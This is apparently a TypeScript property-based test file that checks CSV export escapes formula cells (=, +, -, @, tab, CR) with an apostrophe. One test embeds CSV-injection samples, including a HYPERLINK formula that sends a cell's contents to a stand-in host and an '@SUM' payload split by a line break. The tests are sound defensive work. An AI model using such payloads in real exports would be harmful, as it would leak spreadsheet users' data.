import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import Papa from 'papaparse';
import { FORMULA_CELL } from '../../core/csv-cells.ts';

const unparse = (cell: string) => Papa.unparse({ fields: ['name'], data: [[cell]] }, { escapeFormulae: FORMULA_CELL, newline: '\r\n' });
const parsedCell = (csv: string) => (Papa.parse<string[]>(csv, { delimiter: ',', newline: '\r\n', skipEmptyLines: false }).data[1] ?? [])[0] ?? '';

describe('CSV cells a spreadsheet would evaluate', () => {
  test('a formula followed by a line break is still escaped (finding 6 of #18)', () => {
    assert.equal(parsedCell(unparse('=HYPERLINK("http://x/?"&A1,\n"Open")')), `'=HYPERLINK("http://x/?"&A1,\n"Open")`);
    assert.equal(parsedCell(unparse('@SUM(1+1)\r\n*cmd')), `'@SUM(1+1)\r\n*cmd`);
  });

  test('every cell starting with = + - @ tab or CR is prefixed with an apostrophe, whatever follows', () => {
    fc.assert(
      fc.property(fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string({ unit: 'binary' }), (first, rest) => {
        assert.equal(parsedCell(unparse(first + rest)), `'${first}${rest}`);
      }),
      { numRuns: 1_000 },
    );
  });

  test('other cells round-trip unchanged', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }).filter((s) => !FORMULA_CELL.test(s) && s !== ''), (cell) => {
        assert.equal(parsedCell(unparse(cell)), cell);
      }),
      { numRuns: 1_000 },
    );
  });
});
